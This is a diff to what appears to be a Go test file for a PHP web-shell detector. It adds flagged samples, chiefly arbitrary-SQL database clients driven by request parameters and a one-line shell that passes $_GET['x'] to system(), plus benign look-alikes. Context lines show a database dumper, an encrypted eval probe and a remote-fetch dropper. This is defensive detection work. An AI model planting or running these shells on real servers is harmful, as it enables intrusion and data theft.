@@ -55,6 +55,16 @@ echo
 		for ($i = 0; $i < count($list); $i++) { mail($list[$i], $_POST['subject'], stripslashes($_POST['html']), $h); }`},
 	{"database dumper", "php.sql-dump", `<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); mysql_select_db($_POST['db'], $l);
 		$q = mysql_query("show tables"); while ($t = mysql_fetch_array($q)) { $r = mysql_query("select * from $t[0]"); while ($row = mysql_fetch_row($r)) { $out .= implode(",", $row); } }`},
+	{"mysqli client class", "php.sql-client", `<?php class DB { var $link; function __construct($h, $u, $p) { $this->link = new mysqli($h, $u, $p); }
+		function run($sql) { return $this->link->query($sql); } } $d = new DB($_POST['h'], $_POST['u'], $_POST['p']); $r = $d->run($_POST['q']); print_r($r->fetch_all());`},
+	{"PDO client", "php.sql-client", `<?php $pdo = new PDO("mysql:host=" . $_POST['host'] . ";dbname=" . $_POST['db'], $_POST['user'], $_POST['pass']);
+		foreach ($pdo->query($_POST['sql']) as $row) { print_r($row); }`},
+	{"mysqli subclass real_connect", "php.sql-client", `<?php class Conn extends MySQLi { function open($s, $u, $p) { return $this->real_connect($s, $u, $p); } }
+		$g = new Conn; $g->open($_GET['server'], $_GET['username'], $_COOKIE['pw']); $g->multi_query($_POST['query']);`},
+	{"settings kept in the session", "php.sql-client", `<?php session_start(); if ($_REQUEST['save']) { savecfg(); } loadsess(); if (db_connect()) { db_query(trim($_REQUEST['q'])); }
+		function savecfg() { $_SESSION['DB'] = $_REQUEST['v']; } function loadsess() { global $DB; $DB = $_SESSION['DB']; }
+		function db_connect() { global $DB; return mysql_connect($DB['host'], $DB['user'], $DB['pwd']); } function db_query($sql) { return mysql_query($sql); }`},
+	{"parameter cleaned twice", "php.exec-input", `<?php function run($c) { $c = trim($c); $c = stripslashes($c); system($c); } run($_GET['x']);`},
 }
 
 // xxteaProbe is base64 of "eval($_POST[1]);" encrypted by XXTEA with the
@@ -69,6 +79,14 @@ $p = $_SERVER['DOCUMENT_ROOT'] . "/x.php"; $t = get('https://paste.invalid/raw/a
 // constructBenign are legitimate uses of the same functions: none may be
 // reported.
 var constructBenign = []struct{ name, src string }{
+	{"installer", `<?php $db = new mysqli($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass']); $db->query("CREATE DATABASE " . $db->real_escape_string($_POST['dbname']));
+		foreach (explode(";", file_get_contents('schema.sql')) as $q) { $db->query($q); }`},
+	{"SQL console on the site's database", `<?php require 'config.php'; class DB { var $pdo; function __construct($c) { $this->pdo = new PDO($c['dsn'], $c['user'], $c['pass']); }
+		function run($sql) { return $this->pdo->query($sql); } } $d = new DB($config); if (current_user_can('manage_options')) { print_r($d->run($_POST['sql'])->fetchAll()); }`},
+	{"installer dropping chosen tables", `<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); function apply($verb, $names) { foreach ($names as $n) { mysql_query("$verb " . $n); } }
+		function q($sql) { return mysql_query($sql); } apply("DROP TABLE", $_POST['tables']); q("SHOW TABLES LIKE '" . mysql_real_escape_string($_POST['prefix']) . "%'");`},
+	{"language kept in the session", `<?php session_start(); function setlang() { $_SESSION['lang'] = $_GET['lang']; } function lang() { global $L; $L = $_SESSION['lang']; }
+		setlang(); lang(); $db = new mysqli('localhost', 'app', 'secret', 'app'); $db->query("SELECT * FROM strings WHERE lang = '" . $db->real_escape_string($L) . "'");`},
 	{"output compression", `<?php function squeeze($b) { return preg_replace('/\s+/', ' ', $b); } ob_start('squeeze'); echo $_GET['q']; ob_end_flush();`},
 	{"output kept in a global", `<?php $page = ''; ob_start(function ($b) { global $page; $page = $b; return $b; }); echo htmlspecialchars($_GET['q']); ob_end_flush(); file_put_contents('cache/page.html', $page);`},
 	{"global setter", `<?php function set_title($t) { global $title; $title = $t; } set_title($_GET['t']); echo htmlspecialchars($title);`},
